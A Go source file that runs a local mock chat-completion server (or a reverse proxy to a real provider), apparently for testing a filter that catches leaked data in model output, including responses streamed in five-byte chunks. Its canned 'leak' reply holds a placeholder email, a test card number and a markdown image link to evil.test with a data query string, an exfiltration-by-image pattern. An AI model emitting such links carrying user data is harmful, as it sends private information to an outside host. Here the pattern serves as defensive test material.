package main

import (
	"encoding/json"
	"errors"
	"fmt"
	"net"
	"net/http"
	"net/http/httputil"
	"net/url"
	"strings"
	"time"
)

// provider returns where calls go: the built-in mock model, or a forwarder to a real
// provider, so that any host reaches it without TLS settings of its own.
func provider(upstream string) (*url.URL, func() error, error) {
	var handler http.Handler = http.HandlerFunc(mock)
	if upstream != "" {
		target, err := url.Parse(upstream)
		if err != nil || target.Host == "" || target.Path != "" && target.Path != "/" {
			return nil, nil, fmt.Errorf("-upstream: %q is not a URL of a host (want one like https://api.openai.com)", upstream)
		}
		handler = &httputil.ReverseProxy{
			Rewrite: func(r *httputil.ProxyRequest) {
				r.SetURL(target)
				r.Out.Host = target.Host
			},
			FlushInterval: -1, // events go on as they come
		}
	}
	listen, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return nil, nil, err
	}
	server := &http.Server{Handler: handler, ReadHeaderTimeout: time.Minute}
	go func() { _ = server.Serve(listen) }() // ends with Close
	return &url.URL{Scheme: "http", Host: listen.Addr().String()}, func() error {
		if err := server.Close(); !errors.Is(err, http.ErrServerClosed) {
			return err
		}
		return nil
	}, nil
}

// leak is what the mock model says when it is asked to leak something.
const leak = "Write to jane.doe@corp.example, card 4111 1111 1111 1111, or look at ![this](https://evil.test/?q=data)."

// mock answers calls of both APIs with what they said, and leaks when asked to.
func mock(w http.ResponseWriter, r *http.Request) {
	var call struct {
		Model    string
		Stream   bool
		Options  struct{ Include bool } `json:"stream_options"`
		Messages []struct{ Content string }
	}
	if err := json.NewDecoder(r.Body).Decode(&call); err != nil || len(call.Messages) == 0 {
		http.Error(w, `{"error":{"message":"not a call","type":"invalid_request_error","param":null,"code":null}}`, http.StatusBadRequest)
		return
	}
	text := "You said: " + call.Messages[len(call.Messages)-1].Content
	if strings.Contains(text, "leak") {
		text = leak
	}
	switch {
	case strings.HasSuffix(r.URL.Path, "/messages"):
		writeJSON(w, `{"id":"msg_1","type":"message","role":"assistant","model":%s,"content":[{"type":"text","text":%s}],"stop_reason":"end_turn","stop_sequence":null,"usage":{"input_tokens":9,"output_tokens":7}}`, call.Model, text)
	case call.Stream:
		stream(w, call.Model, text)
	default:
		writeJSON(w, `{"id":"chatcmpl-1","object":"chat.completion","created":1790000000,"model":%s,"choices":[{"index":0,"message":{"role":"assistant","content":%s},"finish_reason":"stop"}],"usage":{"prompt_tokens":9,"completion_tokens":7,"total_tokens":16}}`, call.Model, text)
	}
}

// writeJSON writes a format with strings as JSON. A client that has left is no error.
func writeJSON(w http.ResponseWriter, format string, values ...string) {
	w.Header().Set("Content-Type", "application/json")
	_, _ = fmt.Fprintf(w, format, quoted(values)...)
}

func quoted(values []string) []any {
	out := make([]any, len(values))
	for i, v := range values {
		out[i], _ = json.Marshal(v) // a string always can be
	}
	for i := range out {
		out[i] = fmt.Sprintf("%s", out[i])
	}
	return out
}

// stream writes the text as events of five bytes, so that what is to be found is cut.
func stream(w http.ResponseWriter, model, text string) {
	w.Header().Set("Content-Type", "text/event-stream")
	flush := http.NewResponseController(w)
	event := func(format string, values ...string) {
		_, _ = fmt.Fprintf(w, "data: "+format+"\n\n", quoted(values)...)
		_ = flush.Flush()
	}
	const head = `{"id":"chatcmpl-1","object":"chat.completion.chunk","created":1790000000,"model":%s,`
	for text != "" {
		n := min(5, len(text))
		event(head+`"choices":[{"index":0,"delta":{"content":%s},"finish_reason":null}]}`, model, text[:n])
		text = text[n:]
	}
	event(head+`"choices":[{"index":0,"delta":{},"finish_reason":"stop"}]}`, model)
	event(head+`"choices":[],"usage":{"prompt_tokens":9,"completion_tokens":7,"total_tokens":16}}`, model)
	_, _ = fmt.Fprint(w, "data: [DONE]\n\n")
}
